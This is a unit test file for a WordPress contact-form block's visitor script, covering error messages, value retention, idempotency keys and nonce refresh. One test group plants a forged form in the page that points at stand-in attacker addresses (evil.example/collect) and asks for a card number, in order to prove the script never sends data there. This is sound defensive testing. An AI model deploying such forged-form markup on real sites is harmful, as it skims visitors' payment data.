/**
 * The visitor's script: what the visitor sees for each kind of answer from the submit route, and
 * that the typed values stay in the form whenever the message was not sent.
 */

import { fakeResponse } from '../../../../tests/unit/mocks/fake-response';

const SITE_PROBLEM =
	'Your message was not sent because of a problem on the site. Please try again in a moment.';
const UNREACHABLE =
	'Your message was not sent because the site could not be reached. Please check your connection and try again.';

let form: HTMLFormElement;
let fetchMock: jest.Mock;
let plainSubmit: jest.Mock;

beforeEach( () => {
	// What PHP printed for the script (php/view-settings.php).
	( window as unknown as { blockpackView: unknown } ).blockpackView = {
		'jetpack/contact-form': {
			submitUrl: '/wp-json/blockpack/v1/contact-form/submit',
		},
	};
	document.body.innerHTML = `
		<form class="contact-form" method="post" action="/contact/">
			<div data-field-name="field_1"><label for="f1">Name</label><input id="f1" name="field_1" /></div>
			<div data-field-name="field_2"><label for="f2">Message</label><textarea id="f2" name="field_2"></textarea></div>
			<input type="hidden" name="contact-form-key" value="" />
			<button type="submit">Send</button>
		</form>`;
	form = document.querySelector( 'form' ) as HTMLFormElement;
	( form.querySelector( 'input' ) as HTMLInputElement ).value = 'Ada';
	( form.querySelector( 'textarea' ) as HTMLTextAreaElement ).value =
		'Hello\nthere';
	plainSubmit = jest.fn();
	form.submit = plainSubmit;
	fetchMock = jest.fn();
	window.fetch = fetchMock;
	jest.isolateModules( () => {
		require( '../view' );
	} );
} );

async function send() {
	form.dispatchEvent( new Event( 'submit', { cancelable: true } ) );
	for ( let i = 0; i < 5; i++ ) {
		await new Promise( ( resolve ) => setTimeout( resolve, 0 ) );
	}
}

const alertText = () =>
	document.querySelector( '[role="alert"]' )?.textContent ?? null;

function expectValuesKept() {
	expect( document.querySelector( 'form' ) ).toBe( form );
	expect( ( form.querySelector( 'input' ) as HTMLInputElement ).value ).toBe(
		'Ada'
	);
	expect(
		( form.querySelector( 'textarea' ) as HTMLTextAreaElement ).value
	).toBe( 'Hello\nthere' );
	expect(
		( form.querySelector( 'button' ) as HTMLButtonElement ).disabled
	).toBe( false );
	expect( form.hasAttribute( 'aria-busy' ) ).toBe( false );
}

test.each( [
	[
		'an HTML error page (WordPress without its database)',
		{ status: 500 },
		SITE_PROBLEM,
	],
	[ 'a gateway timeout page', { status: 504 }, SITE_PROBLEM ],
	[
		"WordPress's critical error (JSON with HTML in its message)",
		{
			status: 500,
			json: {
				code: 'internal_server_error',
				message:
					'<p>There has been a critical error on this website.</p>',
			},
		},
		SITE_PROBLEM,
	],
	[
		"the plugin's own storage error",
		{
			status: 500,
			json: {
				code: 'blockpack_contact_form_invalid',
				message:
					'Your message could not be saved. Please try again later.',
				data: { status: 500, fields: {} },
			},
		},
		'Your message could not be saved. Please try again later.',
	],
	[
		'too many messages (429)',
		{
			status: 429,
			json: {
				code: 'blockpack_contact_form_rate_limited',
				message:
					'You have sent too many messages. Please wait a minute and try again.',
				data: { status: 429 },
			},
		},
		'You have sent too many messages. Please wait a minute and try again.',
	],
	[
		'an expired form',
		{
			status: 403,
			json: {
				code: 'blockpack_contact_form_expired',
				message:
					'Your message was not sent because the form expired. Please submit it again.',
			},
		},
		'Your message was not sent because the form expired. Please submit it again.',
	],
] )(
	'%s: a clear message above the form, every value kept',
	async ( _name, answer, message ) => {
		fetchMock.mockResolvedValue( fakeResponse( answer ) );
		await send();
		expect( fetchMock ).toHaveBeenCalledTimes( 1 );
		expect( alertText() ).toBe( message );
		expect( plainSubmit ).not.toHaveBeenCalled();
		expectValuesKept();
	}
);

test( 'no answer at all (offline): a clear message, every value kept, no plain POST that would lose them', async () => {
	fetchMock.mockRejectedValue( new TypeError( 'Failed to fetch' ) );
	await send();
	expect( alertText() ).toBe( UNREACHABLE );
	expect( plainSubmit ).not.toHaveBeenCalled();
	expectValuesKept();
} );

test( 'sent again after a failure: the old message goes, the thank-you replaces the form', async () => {
	fetchMock.mockResolvedValueOnce( fakeResponse( { status: 500 } ) );
	await send();
	expect( alertText() ).toBe( SITE_PROBLEM );
	fetchMock.mockResolvedValueOnce(
		fakeResponse( {
			status: 200,
			json: {
				status: 'sent',
				redirect: '',
				html: '<div class="contact-form-submission"><h3>Thanks</h3></div>',
			},
		} )
	);
	await send();
	expect( alertText() ).toBeNull();
	expect( document.querySelector( 'form' ) ).toBeNull();
	expect( document.querySelector( 'h3' )?.textContent ).toBe( 'Thanks' );
} );

test( 'a page that is not our route (REST API turned off): the plain POST to the page', async () => {
	fetchMock.mockResolvedValue( fakeResponse( { status: 404 } ) );
	await send();
	expect( plainSubmit ).toHaveBeenCalledTimes( 1 );
	expect( alertText() ).toBeNull();
} );

/**
 * The idempotency key sent with the n-th request.
 *
 * @param n The request's index.
 */
function sentKey( n: number ): FormDataEntryValue | null {
	return ( fetchMock.mock.calls[ n ][ 1 ].body as FormData ).get(
		'contact-form-key'
	);
}

test( 'every attempt to send one view of the form carries the same key; another view, another key', async () => {
	const key = (
		form.querySelector(
			'input[name="contact-form-key"]'
		) as HTMLInputElement
	 ).value;
	expect( key ).toMatch( /^[A-Za-z0-9-]{16,64}$/ );
	fetchMock.mockResolvedValueOnce( fakeResponse( { status: 502 } ) );
	await send();
	fetchMock.mockRejectedValueOnce( new TypeError( 'Failed to fetch' ) );
	await send();
	// Not our route: the plain POST sends the same form, key included.
	fetchMock.mockResolvedValueOnce( fakeResponse( { status: 404 } ) );
	await send();
	expect( fetchMock ).toHaveBeenCalledTimes( 3 );
	expect( [ sentKey( 0 ), sentKey( 1 ), sentKey( 2 ) ] ).toEqual( [
		key,
		key,
		key,
	] );
	expect( plainSubmit ).toHaveBeenCalledTimes( 1 );
	expect(
		(
			form.querySelector(
				'input[name="contact-form-key"]'
			) as HTMLInputElement
		 ).value
	).toBe( key );

	// The same cached page in another visitor's browser: a key of its own.
	(
		form.querySelector(
			'input[name="contact-form-key"]'
		) as HTMLInputElement
	 ).value = '';
	jest.isolateModules( () => {
		require( '../view' );
	} );
	const other = (
		form.querySelector(
			'input[name="contact-form-key"]'
		) as HTMLInputElement
	 ).value;
	expect( other ).toMatch( /^[A-Za-z0-9-]{16,64}$/ );
	expect( other ).not.toBe( key );
} );

describe( 'a form forged by content (Custom HTML survives kses with its data attributes)', () => {
	const PRINTED = '/wp-json/blockpack/v1/contact-form/submit';
	let forged: HTMLFormElement;
	let real: HTMLFormElement;

	beforeEach( () => {
		( window as unknown as { blockpackView: unknown } ).blockpackView = {
			'jetpack/contact-form': {
				submitUrl: PRINTED,
				restNonce: 'abcdef0123',
				nonceUrl: '/wp-admin/admin-ajax.php?action=rest-nonce',
			},
		};
		document.body.innerHTML = `
			<div class="wp-block-jetpack-contact-form">
				<form class="contact-form" method="post" action="https://evil.example/plain" data-submit-url="https://evil.example/collect" data-wp-rest-nonce="9999999999">
					<div data-field-name="field_1"><label for="x1">Card number</label><input id="x1" name="field_1" value="4111" /></div>
					<button type="submit">Pay</button>
				</form>
			</div>
			<div class="wp-block-jetpack-contact-form">
				<form class="contact-form" method="post" action="/contact/" data-submit-url="${ PRINTED }?contact-form-post=1">
					<div data-field-name="field_1"><label for="r1">Name</label><input id="r1" name="field_1" value="Ada" /></div>
					<input type="hidden" name="contact-form-key" value="" />
					<button type="submit">Send</button>
				</form>
			</div>`;
		[ forged, real ] = Array.from(
			document.querySelectorAll< HTMLFormElement >( 'form' )
		);
		forged.submit = jest.fn();
		real.submit = jest.fn();
		fetchMock.mockReset();
		fetchMock.mockResolvedValue(
			fakeResponse( {
				status: 400,
				json: {
					code: 'blockpack_contact_form_invalid',
					message: 'No.',
				},
			} )
		);
		jest.isolateModules( () => {
			require( '../view' );
		} );
	} );

	afterEach( () => {
		delete ( window as unknown as { blockpackView?: unknown } )
			.blockpackView;
	} );

	const submitted = async ( target: HTMLFormElement ) => {
		target.dispatchEvent( new Event( 'submit', { cancelable: true } ) );
		for ( let i = 0; i < 5; i++ ) {
			await new Promise( ( resolve ) => setTimeout( resolve, 0 ) );
		}
	};

	test( 'what a visitor types in a forged form never goes to the address its data attribute names', async () => {
		await submitted( forged );
		const urls = fetchMock.mock.calls.map( ( call ) =>
			String( call[ 0 ] )
		);
		expect( urls.filter( ( url ) => url.includes( 'evil' ) ) ).toEqual(
			[]
		);
		expect( urls ).toEqual( [ PRINTED ] );
		// The user's nonce is the one PHP printed, never one the content wrote.
		expect( fetchMock.mock.calls[ 0 ][ 1 ].headers[ 'X-WP-Nonce' ] ).toBe(
			'abcdef0123'
		);
	} );

	test( 'the real form sends to the printed route only, without parameters its markup adds', async () => {
		await submitted( real );
		expect( fetchMock.mock.calls.map( ( call ) => call[ 0 ] ) ).toEqual( [
			PRINTED,
		] );
	} );

	test( "a logged-in user's stale nonce: refreshed once, the same message sent once more; refused again, the error shows and the values stay", async () => {
		const stale = fakeResponse( {
			status: 403,
			json: {
				code: 'rest_cookie_invalid_nonce',
				message: 'Cookie check failed',
			},
		} );
		fetchMock.mockReset();
		fetchMock
			.mockResolvedValueOnce( stale )
			.mockResolvedValueOnce(
				fakeResponse( { status: 200, text: '0123456789' } )
			)
			.mockResolvedValueOnce( stale );
		await submitted( real );
		expect( fetchMock.mock.calls.map( ( call ) => call[ 0 ] ) ).toEqual( [
			PRINTED,
			'/wp-admin/admin-ajax.php?action=rest-nonce',
			PRINTED,
		] );
		expect( fetchMock.mock.calls[ 2 ][ 1 ].headers[ 'X-WP-Nonce' ] ).toBe(
			'0123456789'
		);
		expect(
			( fetchMock.mock.calls[ 2 ][ 1 ].body as FormData ).get(
				'contact-form-key'
			)
		).toBe(
			( fetchMock.mock.calls[ 0 ][ 1 ].body as FormData ).get(
				'contact-form-key'
			)
		);
		expect( real.querySelector( '[role="alert"]' )?.textContent ).toBe(
			'Cookie check failed'
		);
		expect(
			( real.querySelector( '#r1' ) as HTMLInputElement ).value
		).toBe( 'Ada' );
		expect( real.submit ).not.toHaveBeenCalled();
	} );

	test( 'without printed settings (no route to send to), the form is left to its plain POST', async () => {
		delete ( window as unknown as { blockpackView?: unknown } )
			.blockpackView;
		document.body.innerHTML = `<form id="blockpackView" class="contact-form" method="post" action="/contact/" data-submit-url="https://evil.example/collect"><button type="submit">Send</button></form>`;
		const only = document.querySelector( 'form' ) as HTMLFormElement;
		fetchMock.mockReset();
		jest.isolateModules( () => {
			require( '../view' );
		} );
		const event = new Event( 'submit', { cancelable: true } );
		only.dispatchEvent( event );
		await new Promise( ( resolve ) => setTimeout( resolve, 0 ) );
		expect( fetchMock ).not.toHaveBeenCalled();
		expect( event.defaultPrevented ).toBe( false );
	} );
} );
